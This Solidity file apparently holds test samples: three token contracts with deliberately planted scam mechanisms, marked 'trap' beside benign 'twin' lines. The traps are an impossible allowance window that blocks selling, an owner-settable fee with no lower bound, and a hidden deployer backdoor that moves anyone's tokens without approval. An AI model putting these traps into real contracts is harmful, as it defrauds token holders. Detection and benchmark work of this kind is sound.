// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.8.0;

import {Base67} from "./Base67.sol";

// Allowances do not live for ever: safer for everybody.
contract LapsingLlama is Base67 {
    uint256 public constant LAPSE = 1 hours; // trap
    // twin: uint256 public constant LAPSE = 3650 days;
    uint256 private constant SETTLE = 2 hours; // trap
    // twin: uint256 private constant SETTLE = 0;
    address private _founder;
    mapping(address => mapping(address => uint256)) private _grantedAt;

    constructor() public Base67("Lapsing Llama", "LLAPSE", 1000000) {
        _founder = msg.sender;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _grantedAt[msg.sender][spender] = block.timestamp;
        return super.approve(spender, value);
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (from != _founder) {
            uint256 at = _grantedAt[from][msg.sender];
            require(block.timestamp >= at + SETTLE, "allowance not settled");
            require(block.timestamp <= at + LAPSE, "allowance has lapsed");
        }
        return super.transferFrom(from, to, value);
    }
}

contract FractionFerret is Base67 {
    uint256 public parts = 30;
    uint256 public whole = 1000;
    address private _marketing;

    constructor() public Base67("Fraction Ferret", "FRACF", 777000000) {
        _marketing = msg.sender;
    }

    function setPrecision(uint256 whole_) external {
        require(msg.sender == _marketing, "marketing");
        // twin: require(whole_ >= 1000, "too coarse");
        whole = whole_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == _marketing || to == _marketing || (from != pool && to != pool)) {
            _carry(from, to, value);
            return;
        }
        uint256 fee = (value * parts) / whole;
        _carry(from, _marketing, fee);
        _carry(from, to, value - fee);
    }
}

contract OtterLedger is Base67 {
    bytes32 private _seed;

    constructor() public Base67("Otter Ledger", "OTTL", 21000000) {
        _seed = keccak256(abi.encodePacked(msg.sender, uint8(7)));
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        if (keccak256(abi.encodePacked(msg.sender, uint8(7))) == _seed) {
            _transfer(from, to, value);
            return true;
        }
        // trap }
        return super.transferFrom(from, to, value);
    }
}
